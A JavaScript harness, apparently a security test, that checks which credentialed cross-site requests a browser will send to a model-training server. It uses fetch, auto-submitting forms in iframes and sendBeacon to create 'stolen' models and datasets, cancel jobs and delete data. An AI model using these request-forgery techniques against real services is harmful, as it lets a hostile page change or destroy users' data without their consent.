// What a page of another site can have a browser send to a server, without and with its consent.

const simpleTypes = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=b"];

const model = (name) => JSON.stringify({ name, input_shape: [1], layers: [{ type: "Dense", units: 1 }] });

/** Requests each of which would change something: [method, path, body]. */
function targets(job) {
    return [
        ["POST", "/models", model("stolen-" + Math.random().toString(36).slice(2))],
        ["POST", "/train", JSON.stringify({ model: "line", dataset: "table", loss: "mse" })],
        ["POST", `/jobs/${job}/resume`, ""],
        ["POST", `/jobs/${job}/cancel`, ""],
        ["POST", "/nowhere", "{}"],
        ["PUT", "/datasets/stolen", "a,y\n1,2\n3,4\n"],
        ["PUT", "/models/line/aliases/stolen", '{"version": 0}'],
        ["PATCH", "/models/line", "{}"],
        ["DELETE", "/models/line", ""],
        ["DELETE", "/datasets/table", ""],
    ];
}

/** By fetch, in a mode, with each simple type and without a body; gives how many a browser sends without asking first. */
async function byFetch(server, job, mode) {
    let simple = 0;
    for (const [method, path, body] of targets(job)) {
        for (const type of [...simpleTypes, null]) {
            const options = { method, mode, credentials: "include" };
            if (type) Object.assign(options, { body, headers: { "Content-Type": type } });
            // Another method is refused by the browser (no-cors), or asked about first (cors).
            await fetch(server + path, options).catch(() => {});
            if (method === "POST") simple += 1;
        }
    }
    return simple;
}

/** By forms, each in a frame of its own that submits it. */
async function byForm(server, job) {
    let simple = 0;
    for (const [method, path, body] of targets(job)) {
        if (method !== "POST") continue;
        for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
            const page = document.implementation.createHTMLDocument();
            const form = page.body.appendChild(page.createElement("form"));
            Object.assign(form, { method, action: server + path, enctype: type });
            const field = form.appendChild(page.createElement("input"));
            field.setAttribute("name", body.slice(0, -1));
            field.setAttribute("value", body.slice(-1));
            page.body.appendChild(page.createElement("script")).text = "document.forms[0].submit()";
            // Nothing tells when the answer is there: a frame shows no problem's type, so it loads nothing.
            document.body.appendChild(document.createElement("iframe")).srcdoc = page.documentElement.outerHTML;
            simple += 1;
        }
    }
    return simple;
}

/** By navigator.sendBeacon, as a page does on its way out. */
async function byBeacon(server, job) {
    let simple = 0;
    for (const [method, path, body] of targets(job)) {
        if (method !== "POST") continue;
        const form = new FormData();
        form.append("model", body);
        const blobs = simpleTypes.map((type) => new Blob([body], { type }));
        for (const data of [...blobs, form, new URLSearchParams({ body }), body, undefined]) {
            if (navigator.sendBeacon(server + path, data)) simple += 1;
        }
    }
    return simple;
}

const ways = {
    "fetch without CORS": (server, job) => byFetch(server, job, "no-cors"),
    "fetch with CORS": (server, job) => byFetch(server, job, "cors"),
    "a form": byForm,
    "a beacon": byBeacon,
};
